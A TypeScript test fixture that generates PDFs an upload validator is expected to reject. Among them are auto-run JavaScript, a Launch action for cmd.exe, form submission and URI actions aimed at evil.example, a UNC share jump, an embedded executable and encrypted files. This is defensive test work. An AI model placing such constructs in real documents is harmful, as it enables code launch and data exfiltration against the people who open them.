/** PDFs that do something by themselves, carry other files or are locked; all made here, none fetched. */
import { PDF } from '@libpdf/core';
import { type BadUpload, upload } from './bad-upload.fixture.ts';
import { hiddenObjects, onePage, soundPdf, stream } from './pdf-parts.fixture.ts';

const js = '<</S/JavaScript/JS(app.alert\\(1\\))>>';

/** PDFs that must be refused for what they could do. */
export const actingPdfs: BadUpload[] = [
  upload('script on opening', () => onePage({ catalog: `/OpenAction${js}` }), 'active-content'),
  upload(
    'script on opening, behind a reference',
    () => onePage({ catalog: '/OpenAction 5 0 R', more: [js] }),
    'active-content',
  ),
  upload(
    'script under a name written with escapes',
    () => onePage({ catalog: '/OpenAction<</S/J#61vaScript/J#53(1)>>' }),
    'active-content',
  ),
  upload(
    'script hidden in an object stream',
    () =>
      hiddenObjects([
        '<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>',
        '<</Type/Pages/Kids[3 0 R]/Count 1>>',
        '<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]>>',
        js,
      ]),
    'active-content',
  ),
  upload(
    'script among the names',
    () => onePage({ catalog: `/Names<</JavaScript<</Names[(a)${js}]>>>>` }),
    'active-content',
  ),
  upload('script on turning to the page', () => onePage({ page: `/AA<</O${js}>>` }), 'active-content'),
  upload(
    'script behind another action',
    () => onePage({ catalog: `/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next[${js}]>>` }),
    'active-content',
  ),
  upload(
    'script in a bookmark',
    () =>
      onePage({ catalog: '/Outlines<</First 5 0 R/Last 5 0 R/Count 1>>', more: [`<</Title(a)/A${js}>>`] }),
    'active-content',
  ),
  upload(
    'program start from a note',
    () => onePage({ page: '/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/Launch/F(cmd.exe)>>>>]' }),
    'active-content',
  ),
  upload(
    'web page on opening',
    () => onePage({ catalog: '/OpenAction<</S/URI/URI(http://evil.example)>>' }),
    'active-content',
  ),
  upload(
    'form that sends itself away',
    () =>
      onePage({
        page: '/Annots[<</Type/Annot/Subtype/Widget/Rect[0 0 9 9]/A<</S/SubmitForm/F(http://evil.example)>>>>]',
      }),
    'active-content',
  ),
  upload(
    'jump to another file',
    () => onePage({ catalog: '/OpenAction<</S/GoToR/F(\\\\\\\\evil\\\\share)>>' }),
    'active-content',
  ),
  upload(
    'embedded file',
    () =>
      onePage({
        catalog: '/Names<</EmbeddedFiles<</Names[(a)<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>]>>>>',
        more: [stream('MZ', '/Type/EmbeddedFile')],
      }),
    'active-content',
  ),
  upload(
    'file pinned to the page',
    () =>
      onePage({
        page: '/Annots[<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS 5 0 R>>]',
        more: ['<</Type/Filespec/F(a)>>'],
      }),
    'active-content',
  ),
  upload(
    'XFA form',
    () => onePage({ catalog: '/AcroForm<</XFA 5 0 R/Fields[]>>', more: [stream('<xdp/>')] }),
    'active-content',
  ),
  upload(
    'video',
    () => onePage({ page: '/Annots[<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]/RichMediaContent<<>>>>]' }),
    'active-content',
  ),
  upload(
    'script that only the table lost',
    () =>
      Buffer.from(
        onePage({ catalog: `/OpenAction${js}` })
          .toString('latin1')
          .replace(/xref\n[\s\S]*trailer/, 'trailer'),
        'latin1',
      ),
    'active-content',
    'unreadable',
  ),
  upload('password to open', () => encrypted('rahasia'), 'encrypted'),
  upload('password to change', () => encrypted(''), 'encrypted'),
];

async function encrypted(userPassword: string): Promise<Uint8Array> {
  const pdf = await PDF.load(soundPdf);
  pdf.setProtection({ userPassword, ownerPassword: 'pemilik' });
  return pdf.save();
}
